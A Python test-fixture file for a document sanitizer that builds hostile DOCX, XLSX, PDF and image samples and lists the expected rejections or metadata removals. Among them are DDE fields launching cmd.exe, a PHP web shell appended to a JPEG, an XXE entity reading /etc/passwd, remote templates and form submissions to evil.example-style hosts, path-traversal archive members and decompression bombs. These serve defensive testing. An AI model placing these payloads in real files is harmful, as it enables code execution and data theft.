"""The table of hostile files: how each is made, and what becomes of it."""

import zipfile
import zlib
from io import BytesIO

from PIL import Image

from danbiet.common import formats
from danbiet.common.cleaning import clean, pdfs, pictures
from danbiet.common.tests import strangers as s

IMAGE = ("rId9", "image", "media/image1.jpeg", False)
DOTM = "file:///C:/Users/nguyenvana/Normal.dotm"
BODY_OF = "word/document.xml"
LOUD = "<w:p><w:ins w:author='TRAN THI B' w:date='2021-09-16T00:00:00Z'><w:r><w:t>thêm</w:t></w:r></w:ins></w:p>"
COMMENTS = (
    f'<w:comments xmlns:w="{s.WORD}"><w:comment w:id="1" w:author="TRAN THI B" w:initials="TTB">'
    f"<w:p><w:r><w:t>Xem lại</w:t></w:r></w:p></w:comment></w:comments>"
)
CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">'
    "<dc:creator>TRAN THI B</dc:creator><dcterms:created>2021-09-16T00:00:00Z</dcterms:created></cp:coreProperties>"
)
ENTITIES = (
    '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="%s">&b;</w:document>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
XMP = b"<x:xmpmeta>NGUYEN VAN A 21.07N</x:xmpmeta>"
APP1 = b"\xff\xe1" + (len(XMP) + 31).to_bytes(2, "big") + b"http://ns.adobe.com/xap/1.0/\0" + XMP
SCRIPT = b"app.alert\\('x'\\)"


def locked_head(data: bytes, head: bytes) -> bytes:
    return data[:2] + head + data[2:]


def ours_with_more() -> bytes:
    """A JPEG that looks drawn by us, with something behind its last dot."""
    return clean(s.jpeg(), name="a").data[:-2] + b"%PDF-1.4 <script>alert(1)</script>" + b"\xff\xd9"


def changed_later() -> bytes:
    """A PDF whose second version hides the text of the first, which still lies in the file."""
    first = s.pdf(text="CCCD 001094012345")
    at = len(first)
    new = b"4 0 obj\n" + s.stream(b"BT /F1 12 Tf 72 700 Td (da che) Tj ET") + b"\nendobj\n"
    old = int(first.rsplit(b"startxref\n", 1)[1].split()[0])
    table = b"xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n" % (at, old)
    return first + new + table + b"startxref\n%d\n%%%%EOF\n" % (at + len(new))


def deep(inside: bytes = b"null", depth: int = 3000) -> bytes:
    return b"[" * depth + inside + b"]" * depth


IMAGE_HEAD = b"/Type /XObject /Subtype /Image /Width 64 /Height 48 "
JP2 = (
    b"\0\0\0\x0cjP  \r\n\x87\n" + (len(XMP) + 8).to_bytes(4, "big") + b"xml " + XMP + b"\0\0\0\x0cjp2c\xff\x4f\xff\x51"
)

REFUSED = [
    ("empty file", lambda: b"", "rỗng"),
    ("too large", lambda: b"%PDF-1.7" + b" " * formats.LIMIT, "lớn hơn 20 MB"),
    ("program named pdf", lambda: b"MZ\x90\0" + b"\0" * 99, "không phải PDF"),
    ("web page named jpg", lambda: b"<html><script>alert(1)</script>", "không phải PDF"),
    ("drawing with script", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "không phải PDF"),
    ("GIF named jpg", lambda: b"GIF89a\x01\0\x01\0\0\0\0;", "Ảnh GIF chưa nhận được"),
    ("WebP named jpg", lambda: b"RIFF\x24\0\0\0WEBPVP8 ", "Ảnh WebP chưa nhận được"),
    ("HEIC of a telephone", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "Ảnh HEIC của điện thoại"),
    ("HEIC of another", lambda: b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic", "chọn Tương thích nhất"),
    ("plain zip named docx", lambda: s.zipped({"a.txt": "x"}), "không phải PDF"),
    ("old office or locked office", lambda: OLE, "đời cũ hoặc có mật khẩu"),
    ("cut JPEG", lambda: s.jpeg(s.dots((400, 300)))[:900], "Ảnh hỏng"),
    ("JPEG of noise", lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4, "Ảnh hỏng"),
    ("huge PNG", lambda: s.png(Image.new("1", (8000, 8000))), "40 triệu điểm ảnh"),
    ("boundless PNG", s.boundless_png, "Ảnh hỏng"),
    ("moving PNG", s.moving_png, "Ảnh động"),
    ("broken PNG", lambda: s.png().replace(b"IDAT", b"IDAT\xff\xff", 1), "Ảnh hỏng"),
    ("locked PDF", s.locked_pdf, "PDF có mật khẩu"),
    ("broken PDF", lambda: b"%PDF-1.7\n" + b"rac " * 200, "Tệp hỏng"),
    (
        "PDF without pages",
        lambda: s.numbered(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Kids [] /Count 0 >>"),
        "không có trang",
    ),
    ("PDF bomb", lambda: s.packed_pdf(200 * 2**20), "phình ra quá lớn"),
    ("PDF bomb in layers", lambda: s.packed_pdf(2**20, times=3), "nén nhiều lớp"),
    (
        "PDF bomb in another coding",
        lambda: s.pdf(s.stream(b"\x81a" * 2_000_000, b"/Filter /RunLengthDecode"), page=b"/Thing 6 0 R"),
        "Tệp hỏng",
    ),
    (
        "PDF of too many pages",
        lambda: s.numbered(
            b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Kids [" + b"<< /Type /Page >> " * 2001 + b"] /Count 2001 >>"
        ),
        "quá 2000 trang",
    ),
    ("PDF nested without end", lambda: s.pdf(deep(), root=b"/Dests 6 0 R"), "Tệp hỏng"),
    (
        "PDF with a picture of 400 million dots",
        lambda: s.pdf(
            s.stream(b"x", b"/Type /XObject /Subtype /Image /Width 20000 /Height 20000"), page=b"/Thing 6 0 R"
        ),
        "100 triệu điểm ảnh",
    ),
    ("DOCX with macro", lambda: s.word(more={"word/vbaProject.bin": OLE}), "macro"),
    (
        "DOCX with macro under another name",
        lambda: s.word(
            more={"word/a.xml": "<a/>"},
            outside=[("rId7", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.xml", False)],
        ),
        "macro",
    ),
    (
        "macro document named docx",
        lambda: s.zipped(
            {
                "[Content_Types].xml": s.types(BODY_OF, "application/vnd.ms-word.document.macroEnabled.main+xml"),
                BODY_OF: "<w/>",
            }
        ),
        "macro",
    ),
    (
        "template named docx",
        lambda: s.zipped(
            {"[Content_Types].xml": s.types(BODY_OF, f"{s.WORD_TYPE}.template.main+xml"), BODY_OF: "<w/>"}
        ),
        "phần lạ",
    ),
    ("DOCX without list of kinds", lambda: s.zipped({BODY_OF: "<w/>"}), "phần lạ"),
    ("XLSX with old macro sheet", lambda: s.sheet(more={"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    ("DOCX with embedded object", lambda: s.word(more={"word/embeddings/oleObject1.bin": OLE}), "nhúng bên trong"),
    ("DOCX with object under another name", lambda: s.word(more={"word/media/image1.png": OLE}), "nhúng bên trong"),
    (
        "DOCX with object in its text",
        lambda: s.word("<w:object><o:OLEObject xmlns:o='urn:o'/></w:object>"),
        "nhúng bên trong",
    ),
    ("DOCX with embedded workbook", lambda: s.word(more={"word/embeddings/a.xlsx": s.sheet()}), "bên trong"),
    ("DOCX with ActiveX", lambda: s.word(more={"word/activeX/activeX1.xml": "<a/>"}), "ActiveX"),
    ("XLSX with ActiveX", lambda: s.sheet(more={"xl/ctrlProps/ctrlProp1.xml": "<a/>"}), "ActiveX"),
    (
        "DOCX with template from afar",
        lambda: s.word(outside=[("rId7", "attachedTemplate", "http://evil.example/a.dotm", True)]),
        "tự lấy nội dung",
    ),
    (
        "DOCX with template on a share",
        lambda: s.word(outside=[("rId7", "attachedTemplate", "\\\\evil\\a.dotm", True)]),
        "tự lấy nội dung",
    ),
    (
        "DOCX with picture from afar",
        lambda: s.word(outside=[("rId7", "image", "https://evil.example/pixel.png", True)]),
        "tự lấy nội dung",
    ),
    (
        "DOCX with frame from afar",
        lambda: s.word(outside=[("rId7", "frame", "https://evil.example/a.html", True)]),
        "tự lấy nội dung",
    ),
    (
        "DOCX with web page inside",
        lambda: s.word(more={"word/a.html": "<b/>"}, outside=[("rId7", "aFChunk", "a.html", False)]),
        "bên trong",
    ),
    (
        "DOCX with link out of the archive",
        lambda: s.word(outside=[("rId7", "image", "media\\..\\..\\a.png", False)]),
        "đường dẫn lạ",
    ),
    ("DOCX with DDE field", lambda: s.word(s.field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "trường tự chạy"),
    ("DOCX with DDE field in pieces", lambda: s.word(s.field("D", "DE", "AUTO ", "cmd.exe")), "trường tự chạy"),
    ("DOCX with DDE spelt by numbers", lambda: s.word(s.field("QUOTE 68 68 69")), "trường tự chạy"),
    (
        "DOCX with field that reads a file",
        lambda: s.word("<w:p><w:fldSimple w:instr=' INCLUDETEXT \"c:\\a\"'/></w:p>"),
        "trường tự chạy",
    ),
    ("XLSX with DDE formula", lambda: s.sheet("<c r='B7'><f>cmd|' /c calc'!A0</f></c>"), "Ô B7"),
    ("XLSX that calls the web", lambda: s.sheet("<c r='B7'><f>WEBSERVICE(\"http://evil\")</f></c>"), "Ô B7"),
    (
        "XLSX with DDE link",
        lambda: s.sheet(
            more={"xl/externalLinks/externalLink1.xml": f"<externalLink xmlns='{s.SHEET}'><ddeLink/></externalLink>"}
        ),
        "DDE",
    ),
    (
        "XLSX with connection",
        lambda: s.sheet(
            more={"xl/connections.xml": "<a/>"}, outside=[("rId7", "connections", "connections.xml", False)]
        ),
        "tự lấy nội dung",
    ),
    (
        "zip bomb in DOCX",
        lambda: s.word(more={"word/media/a.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}),
        "phình ra quá lớn",
    ),
    (
        "many small bombs",
        lambda: s.word(more={f"word/a{n}.xml": b"<a>" + b"xy" * 1_900_000 + b"</a>" for n in range(25)}),
        "phình ra quá lớn",
    ),
    ("too many members", lambda: s.word(more={f"word/a{n}.xml": "<a/>" for n in range(2001)}), "phình ra quá lớn"),
    (
        "archive in archive",
        lambda: s.word(more={"word/media/image1.png": s.zipped({"a": "b"})}),
        "tệp nén khác bên trong",
    ),
    ("program in DOCX", lambda: s.word(more={"word/media/image1.png": b"MZ" + b"\0" * 99}), "chương trình"),
    ("web page as picture", lambda: s.word(more={"word/media/image1.png": b"<script>alert(1)</script>"}), "Ảnh hỏng"),
    ("unknown part", lambda: s.word(more={"word/x.bin": b"abc"}), "phần lạ"),
    ("path upward", lambda: s.word(more={"../../etc/cron.d/a.xml": "<a/>"}), "đường dẫn lạ"),
    ("absolute path", lambda: s.word(more={"/etc/a.xml": "<a/>"}), "đường dẫn lạ"),
    ("backslash path", lambda: s.word(more={"word\\a.xml": "<a/>"}), "đường dẫn lạ"),
    ("drive path", lambda: s.word(more={"C:/a.xml": "<a/>"}), "đường dẫn lạ"),
    ("two parts of one name", s.twice_named, "cùng tên"),
    ("two parts of names alike", lambda: s.word(more={"WORD/Document.xml": "<a/>"}), "cùng tên"),
    ("members with password", lambda: s.flagged(s.word()), "mật khẩu"),
    ("entities", lambda: s.word(more={BODY_OF: ENTITIES % s.WORD}), "XML lạ"),
    ("entities in another coding", lambda: s.word(more={BODY_OF: (ENTITIES % s.WORD).encode("utf-16")}), "XML lạ"),
    (
        "entity that reads a file",
        lambda: s.sheet(more={"xl/a.xml": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"}),
        "XML lạ",
    ),
    ("XML nested without end", lambda: s.word(more={"word/a.xml": "<a>" * 5000 + "</a>" * 5000}), "hỏng"),
    ("XML that is none", lambda: s.word(more={BODY_OF: "<w:document>"}), "hỏng"),
    ("archive cut short", lambda: s.word()[:-30], "không phải PDF"),
    (
        "drawing with script in DOCX",
        lambda: s.word(more={"word/media/a.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>"}),
        "phần lạ",
    ),
    (
        "drawing that fetches in DOCX",
        lambda: s.word(
            more={"word/media/a.svg": "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil/x'/></svg>"}
        ),
        "phần lạ",
    ),
]

CLEANED = [
    (
        "position in a photo",
        lambda: s.jpeg(exif=s.exif()),
        [b"MAYANH-X", b"Exif", b"2021:09:16"],
        pictures.POSITION_OUT,
    ),
    (
        "comment in a photo",
        lambda: s.jpeg(comment=b"NGUYEN VAN A <script>"),
        [b"NGUYEN VAN A", b"<script>"],
        pictures.NOTES_OUT,
    ),
    ("XMP in a photo", lambda: locked_head(s.jpeg(), APP1), [b"NGUYEN VAN A", b"xmpmeta"], pictures.NOTES_OUT),
    ("photo and archive in one", lambda: s.jpeg() + s.zipped({"a.js": "alert"}), [b"PK\x03\x04", b"a.js"], None),
    ("photo and page in one", lambda: s.jpeg() + b"<?php system($_GET[0]) ?>", [b"<?php"], None),
    ("photo drawn by us and more", ours_with_more, [b"%PDF", b"<script>"], None),
    ("photo with a second one", s.several_jpeg, [b"MPF"], pictures.MORE_OUT),
    ("photo lying on its side", lambda: s.jpeg(exif=s.exif(6)), [b"Exif"], pictures.TURNED),
    ("words in a PNG", s.noted_png, [b"NGUYEN VAN A", b"tEXt", b"iTXt"], pictures.NOTES_OUT),
    ("position in a PNG", lambda: s.png(exif=s.exif()), [b"eXIf", b"MAYANH-X"], pictures.POSITION_OUT),
    ("something behind a PNG", lambda: s.png() + b"<?php x ?>", [b"<?php"], None),
    (
        "PDF that starts a script",
        lambda: s.pdf(b"<< /S /JavaScript /JS (" + SCRIPT + b") >>", root=b"/OpenAction 6 0 R"),
        [b"JavaScript", b"alert", b"OpenAction"],
        pdfs.ACTS_OUT,
    ),
    (
        "PDF with named scripts",
        lambda: s.pdf(
            b"<< /S /JavaScript /JS (" + SCRIPT + b") >>", root=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
        ),
        [b"JavaScript", b"alert"],
        pdfs.ACTS_OUT,
    ),
    (
        "PDF act said in a roundabout way",
        lambda: s.annotated(b"/Subtype /Link /A 7 0 R", b"<< /S 8 0 R /URI (javascript:alert) >>", b"/U#52I"),
        [b"javascript"],
        pdfs.ACTS_OUT,
    ),
    (
        "PDF script under an escaped name",
        lambda: s.annotated(b"/Subtype 7 0 R /#41 << /#53 /J#61vaScript /J#53 (" + SCRIPT + b") >>", b"/Link"),
        [b"alert"],
        pdfs.ACTS_OUT,
    ),
    (
        "PDF note hidden in a roundabout way",
        lambda: s.annotated(b"/Subtype /Text /F 7 0 R /Contents (CCCD 001094012345)", b"34"),
        [b"001094012345"],
        pdfs.HIDDEN_OUT,
    ),
    (
        "PDF page that acts",
        lambda: s.pdf(page=b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"),
        [b"/AA", b"cmd.exe", b"Launch"],
        pdfs.ACTS_OUT,
    ),
    (
        "PDF link that starts a program",
        lambda: s.annotated(b"/Subtype /Link /A << /S /Launch /F (cmd.exe) >>"),
        [b"Launch", b"cmd.exe"],
        pdfs.ACTS_OUT,
    ),
    (
        "PDF link with script address",
        lambda: s.annotated(b"/Subtype /Link /A << /S /URI /URI (javascript:alert) >>"),
        [b"javascript"],
        pdfs.ACTS_OUT,
    ),
    (
        "PDF that sends a form",
        lambda: s.annotated(b"/Subtype /Widget /FT /Tx /T (a) /A << /S /SubmitForm /F (http://evil) >>"),
        [b"SubmitForm", b"evil"],
        pdfs.ACTS_OUT,
    ),
    (
        "PDF link into another file",
        lambda: s.annotated(b"/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>"),
        [b"GoToR", b"evil"],
        pdfs.ACTS_OUT,
    ),
    (
        "PDF with a chain of acts",
        lambda: s.annotated(b"/Subtype /Link /A << /S /URI /URI (https://a.vn) /Next << /S /Launch /F (cmd.exe) >> >>"),
        [b"Launch", b"cmd.exe"],
        None,
    ),
    (
        "PDF with attached file",
        lambda: s.pdf(
            b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            s.stream(b"MZ-program", b"/Type /EmbeddedFile"),
            root=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
        ),
        [b"a.exe", b"MZ-program"],
        pdfs.FILES_OUT,
    ),
    (
        "PDF note with attached file",
        lambda: s.annotated(
            b"/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", s.stream(b"MZ-program")
        ),
        [b"a.exe", b"MZ-program"],
        pdfs.FILES_OUT,
    ),
    (
        "PDF with film",
        lambda: s.annotated(b"/Subtype /RichMedia /RichMediaContent << /Assets (FILM) >>"),
        [b"RichMedia", b"FILM"],
        pdfs.FILES_OUT,
    ),
    (
        "PDF with XFA",
        lambda: s.pdf(s.stream(b"<xdp>evil</xdp>"), root=b"/AcroForm << /Fields [] /XFA 6 0 R >>"),
        [b"XFA", b"xdp"],
        pdfs.FORM_OUT,
    ),
    (
        "PDF with hidden note",
        lambda: s.annotated(b"/Subtype /Text /F 2 /Contents (CCCD 001094012345)"),
        [b"001094012345"],
        pdfs.HIDDEN_OUT,
    ),
    (
        "PDF note with author",
        lambda: s.annotated(b"/Subtype /Text /Contents (Xem lai) /T (TRAN THI B) /M (D:20210916)"),
        [b"TRAN THI B", b"20210916"],
        pdfs.AUTHOR_OUT,
    ),
    (
        "PDF with facts of its maker",
        lambda: s.pdf(b"<< /Author (TRAN THI B) /Creator (Word) >>", trailer=b"/Info 6 0 R"),
        [b"TRAN THI B"],
        pdfs.FACTS_OUT,
    ),
    (
        "PDF with XMP",
        lambda: s.pdf(s.stream(XMP, b"/Type /Metadata /Subtype /XML"), root=b"/Metadata 6 0 R"),
        [b"NGUYEN VAN A"],
        pdfs.FACTS_OUT,
    ),
    ("PDF changed later", changed_later, [b"001094012345"], None),
    (
        "signed PDF",
        lambda: s.annotated(
            b"/Subtype /Widget /FT /Sig /T (ky) /V << /Type /Sig /ByteRange [0 1 2 3] "
            b"/Contents <aabb> /Name (TRAN THI B) >>"
        ),
        [b"TRAN THI B", b"ByteRange"],
        pdfs.SIGNATURE_OUT,
    ),
    (
        "PDF with photo and its position",
        lambda: s.pdf(
            s.stream(
                s.jpeg(exif=s.exif()),
                b"/Type /XObject /Subtype /Image /Width 64 /Height 48 /Filter /DCTDecode "
                b"/ColorSpace /DeviceRGB /BitsPerComponent 8",
            ),
            page=b"/Thing 6 0 R",
        ),
        [b"MAYANH-X", b"Exif"],
        pictures.NOTES_OUT,
    ),
    (
        "PDF with packed photo and its position",
        lambda: s.pdf(
            s.stream(zlib.compress(s.jpeg(exif=s.exif())), IMAGE_HEAD + b"/Filter [/FlateDecode /DCTDecode]"),
            page=b"/Thing 6 0 R",
        ),
        [b"/FlateDecode", b"MAYANH-X", b"Exif"],
        pictures.NOTES_OUT,
    ),
    (
        "PDF with JPEG 2000 and its notes",
        lambda: s.pdf(s.stream(JP2, IMAGE_HEAD + b"/Filter /JPXDecode"), page=b"/Thing 6 0 R"),
        [b"NGUYEN VAN A"],
        pictures.NOTES_OUT,
    ),
    (
        "XLSX with an add-in from the web",
        lambda: s.sheet(more={"xl/webextensions/webextension1.xml": "<a url='https://evil.example'/>"}),
        [b"evil.example"],
        "customXml",
    ),
    ("PDF and page in one", lambda: s.pdf() + b"<script>alert(1)</script>", [b"<script>"], None),
    ("PDF whose pages go round", lambda: s.pdf(pages=b"/Kids [3 0 R 2 0 R]").replace(b"/Kids [3 0 R] ", b""), [], None),
    (
        "DOCX with facts",
        lambda: s.word(more={"docProps/core.xml": CORE, "docProps/custom.xml": "<a>TRAN THI B</a>"}),
        [b"TRAN THI B"],
        "Thông tin về người, đơn vị",
    ),
    (
        "DOCX with names of reviewers",
        lambda: s.word(LOUD, more={"word/comments.xml": COMMENTS}),
        [b"TRAN THI B", b"TTB", b"2021-09-16"],
        "Tên người góp ý",
    ),
    (
        "DOCX with local template",
        lambda: s.word(outside=[("rId7", "attachedTemplate", DOTM, True)]),
        [b"nguyenvana"],
        "Liên kết tới tệp",
    ),
    (
        "DOCX link to a drive",
        lambda: s.word(
            "<w:p><w:hyperlink r:id='rId7'/></w:p>",
            outside=[("rId7", "hyperlink", "file:///C:/Users/nguyenvana/a.doc", True)],
        ),
        [b"nguyenvana"],
        "Liên kết tới tệp",
    ),
    (
        "DOCX link with script",
        lambda: s.word(outside=[("rId7", "hyperlink", "javascript:alert(1)", True)]),
        [b"javascript"],
        "Liên kết tới tệp",
    ),
    (
        "DOCX with photo and its position",
        lambda: s.word(more={"word/media/image1.jpeg": s.jpeg(exif=s.exif())}, outside=[IMAGE]),
        [b"MAYANH-X"],
        pictures.POSITION_OUT,
    ),
    (
        "DOCX with thumbnail",
        lambda: s.word(more={"docProps/thumbnail.jpeg": s.jpeg()}),
        [b"thumbnail"],
        "Cài đặt máy in",
    ),
    (
        "DOCX with store of another program",
        lambda: s.word(more={"customXml/item1.xml": "<a>CCCD 001094012345</a>"}),
        [b"001094012345"],
        "customXml",
    ),
    (
        "XLSX with printer settings",
        lambda: s.sheet(more={"xl/printerSettings/printerSettings1.bin": b"MAYIN"}),
        [b"MAYIN"],
        "Cài đặt máy in",
    ),
    (
        "XLSX with path of its maker",
        lambda: s.sheet(book="<absPath url='C:\\Users\\nguyenvana'/>"),
        [b"nguyenvana"],
        "Thông tin về người",
    ),
    (
        "XLSX with persons",
        lambda: s.sheet(
            more={"xl/persons/person.xml": "<personList><person displayName='TRAN THI B' userId='b@c'/></personList>"}
        ),
        [b"TRAN THI B", b"b@c"],
        "Tên người góp ý",
    ),
    (
        "XLSX with author of comments",
        lambda: s.sheet(
            more={
                "xl/comments1.xml": f"<comments xmlns='{s.SHEET}'><authors>"
                "<author>TRAN THI B</author></authors></comments>"
            }
        ),
        [b"TRAN THI B"],
        "Tên người góp ý",
    ),
    (
        "XLSX that leans on another",
        lambda: s.sheet(
            more={
                "xl/externalLinks/externalLink1.xml": "<externalLink/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": s.links(
                    ("rId1", "externalLinkPath", "file:///C:/Users/nguyenvana/b.xlsx", True)
                ),
            }
        ),
        [b"nguyenvana"],
        "Liên kết tới tệp",
    ),
    ("notes of the archive", lambda: with_comment(s.word()), [b"TRAN THI B"], None),
]


def with_comment(data: bytes) -> bytes:
    file = BytesIO(data)
    with zipfile.ZipFile(file, "a") as archive:
        archive.comment = b"TRAN THI B"
    return file.getvalue()
